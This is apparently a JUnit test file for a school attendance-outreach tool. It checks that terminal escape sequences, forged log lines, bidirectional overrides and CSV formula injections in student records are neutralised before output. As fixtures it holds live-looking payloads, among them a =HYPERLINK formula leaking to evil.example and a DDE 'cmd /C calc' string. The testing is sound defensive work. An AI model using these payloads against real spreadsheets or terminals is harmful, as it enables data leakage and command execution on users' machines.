package org.attendanceoutreach;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

import static org.attendanceoutreach.CommandLineTest.run;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * What goes out is safe, whatever came in. A school file whose ids carry escape sequences, line
 * breaks and bidirectional overrides, and whose relationships and ids are spreadsheet formulas, goes
 * through every command that prints: no control character reaches standard output or standard error
 * (no forged lines, no colours, no terminal title), and no CSV cell starts a formula.
 *
 * <p>Shown to catch: the escaping in {@code ResultWriter.table} removed (the red id reached the
 * table), in {@code InputProblem.toString} removed (the forged line on standard error), the formula
 * guard of {@code SpreadsheetCsv} removed ({@code =HYPERLINK} live in both CSV files).
 */
class OutputSafetyTest {
    private static final String ESC = "\u001b";
    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak\",\"mom\")";
    private static final String DDE = "+cmd|' /C calc'!A0";

    private static String school() {
        String absentToday = "\"absences\": [{\"date\": \"2026-11-20\", \"type\": \"UNEXCUSED\"}]";
        return "{\"schoolId\": \"PS-" + json(ESC + "[2J") + "\", \"asOf\": \"2026-11-20\","
                + " \"calendar\": {\"firstDay\": \"2026-09-08\", \"lastDay\": \"2027-06-25\", \"closedDays\": [\"2026-11-11\"]},"
                + " \"practices\": [\"success-mentor\", \"" + json("robocall" + ESC + "[31m") + "\"],"
                + " \"students\": ["
                + "{\"studentId\": \"" + json("S-1" + ESC + "[31mRED") + "\", " + absentToday + ","
                + "  \"contacts\": [{\"role\": \"PARENT\", \"relationship\": \"" + json(HYPERLINK) + "\", \"name\": \"A\","
                + "   \"phone\": \"" + json(DDE) + "\", \"phoneStatus\": \"WORKING\"}]},"
                + "{\"studentId\": \"" + json("S-2\nFORGED: every student was evaluated") + "\", " + absentToday + ","
                + "  \"contacts\": [{\"role\": \"PARENT\", \"relationship\": \"-2+3+cmd|' /C calc'!A0\", \"phone\": \"555-0102\"}]},"
                + "{\"studentId\": \"@SUM(1+1)\", " + absentToday + ","
                + "  \"contacts\": [{\"role\": \"PARENT\", \"relationship\": \"" + json("\tmother\r") + "\", \"phone\": \"555-0103\"}]},"
                + "{\"studentId\": \"" + json("S-4\u202Eevil\u2028next") + "\", " + absentToday + "},"
                + "{\"studentId\": \"" + json("S-5" + ESC + "]0;owned\u0007") + "\", \"absences\": [{\"date\": \"2026-11-14\", \"type\": \"UNEXCUSED\"}]}"
                + "], \"expect\": [{\"studentId\": \"" + json("S-1" + ESC + "[31mRED") + "\", \"attendanceTier\": \"" + json("SEVERE" + ESC + "[1m") + "\"},"
                + " {\"studentId\": \"" + json("S-9" + ESC + "[31m") + "\"}]}";
    }

    /** A JSON string's content: quotes and backslashes escaped, every other character as \\uXXXX when below space or not ASCII. */
    private static String json(String s) {
        StringBuilder b = new StringBuilder();
        for (char c : s.toCharArray()) {
            if (c == '"' || c == '\\') {
                b.append('\\').append(c);
            } else if (c < 0x20 || c > 0x7E) {
                b.append(String.format("\\u%04x", (int) c));
            } else {
                b.append(c);
            }
        }
        return b.toString();
    }

    private static void assertPrintable(String what, String text) {
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            boolean unsafe = (c < 0x20 && c != '\n') || c == 0x7F || (c >= 0x80 && c <= 0x9F)
                    || Character.getType(c) == Character.FORMAT || c == '\u2028' || c == '\u2029' || Character.isSurrogate(c);
            assertFalse(unsafe, what + ": character U+" + String.format("%04X", (int) c) + " at " + i + " in:\n" + text);
        }
        assertFalse(text.lines().anyMatch(l -> l.startsWith("FORGED")), what + ": a forged line:\n" + text);
    }

    @Test
    void noControlCharacterReachesTheTerminalFromAnyCommand(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("school.json");
        Files.writeString(file, school(), StandardCharsets.UTF_8);
        String f = file.toString();
        List<String[]> commands = new ArrayList<>();
        for (String format : new String[] {"table", "json", "csv", "jsonl"}) {
            commands.add(new String[] {"recommend", "--rules", "rules", "--format", format, f});
        }
        for (String format : new String[] {"table", "json", "csv"}) {
            commands.add(new String[] {"call-list", "--rules", "rules", "--format", format, f});
        }
        commands.add(new String[] {"explain", "--rules", "rules", "--student", "S-1" + ESC + "[31mRED", f});
        commands.add(new String[] {"explain", "--rules", "rules", "--student", "S-5" + ESC + "]0;owned\u0007", f});
        commands.add(new String[] {"explain", "--rules", "rules", "--student", "nobody" + ESC + "[5m", f});
        commands.add(new String[] {"diff", "--before", "rules", "--after", "rules", f});
        commands.add(new String[] {"audit", "--rules", "rules", f});
        commands.add(new String[] {"check", "--rules", "rules", f});
        assertTrue(run("check", "--rules", "rules", f).out().contains("FAIL "), "check printed the failing expectations");
        int evaluated = 0;
        for (String[] args : commands) {
            CommandLineTest.Run r = run(args);
            String what = String.join(" ", args).replace(ESC, "ESC");
            assertFalse(r.err().contains("outreach: "), what + ": an exception reached the command line:\n" + r.err());
            assertPrintable(what + " (standard output)", r.out());
            assertPrintable(what + " (standard error)", r.err());
            if (args[0].equals("recommend")) {
                evaluated++;
                assertTrue(r.err().contains("student S-5\\u001b]0;owned\\u0007: absences[0].date"), what + ": the error names the id, escaped:\n" + r.err());
            }
        }
        assertEquals(4, evaluated);
        CommandLineTest.Run table = run("recommend", "--rules", "rules", "--format", "table", f);
        assertTrue(table.out().contains("S-1\\u001b[31mRED"), "the id is shown, escaped:\n" + table.out());
        assertTrue(table.out().contains("S-2\\u000aFORGED"), table.out());
        assertTrue(table.out().contains("S-4\\u202eevil\\u2028next"), table.out());

        Path page = dir.resolve("report.html");
        CommandLineTest.Run report = run("report", "--rules", "rules", "--out", page.toString(), f);
        assertPrintable("report (standard error)", report.err());
        String html = Files.readString(page);
        assertFalse(html.contains(ESC) || html.contains("\u202E"), "the report escapes control characters too");
    }

    @Test
    void noCsvCellStartsAFormula(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("school.json");
        Files.writeString(file, school(), StandardCharsets.UTF_8);
        CommandLineTest.Run calls = run("call-list", "--rules", "rules", "--format", "csv", file.toString());
        CommandLineTest.Run recs = run("recommend", "--rules", "rules", "--format", "csv", file.toString());
        int cells = 0;
        boolean sawGuardedRelationship = false;
        for (CommandLineTest.Run r : List.of(calls, recs)) {
            for (List<String> row : rows(r.out())) {
                for (String cell : row) {
                    cells++;
                    assertFalse(startsAFormula(cell), "a cell that starts a formula: " + cell + "\n" + r.out());
                    sawGuardedRelationship |= cell.equals("'" + HYPERLINK);
                }
            }
        }
        assertTrue(sawGuardedRelationship, "the relationship is there, as text:\n" + calls.out());
        assertTrue(calls.out().contains("'" + DDE), "the phone cell too:\n" + calls.out());
        assertTrue(recs.out().contains("'@SUM(1+1)"), "an id that is a formula:\n" + recs.out());
        assertTrue(recs.out().contains(",0.0") || recs.out().contains(",0,"), "numbers stay numbers");
        assertTrue(cells > 100, "the CSV files were read: " + cells + " cells");
        // JSON carries the same values as data (no spreadsheet reads it), escaped as JSON does
        String relationship = new ObjectMapper().readTree(run("call-list", "--rules", "rules", "--format", "json", file.toString()).out())
                .get("calls").get(0).get("relationship").asText();
        assertTrue(relationship.equals(HYPERLINK) || relationship.startsWith("-2+3") || relationship.contains("mother"), relationship);
    }

    private static boolean startsAFormula(String cell) {
        if (cell.isEmpty()) {
            return false;
        }
        char c = cell.charAt(0);
        if (c == '=' || c == '@' || c == '\t' || c == '\r' || c == '\n') {
            return true;
        }
        if (c == '+' || c == '-') {
            try {
                new BigDecimal(cell);
                return false;
            } catch (NumberFormatException e) {
                return true;
            }
        }
        return false;
    }

    private static List<List<String>> rows(String csv) throws Exception {
        CsvMapper mapper = new CsvMapper();
        mapper.enable(CsvParser.Feature.WRAP_AS_ARRAY);
        List<List<String>> out = new ArrayList<>();
        try (MappingIterator<List<String>> it = mapper.readerFor(List.class).readValues(csv)) {
            it.forEachRemaining(out::add);
        }
        return out;
    }
}
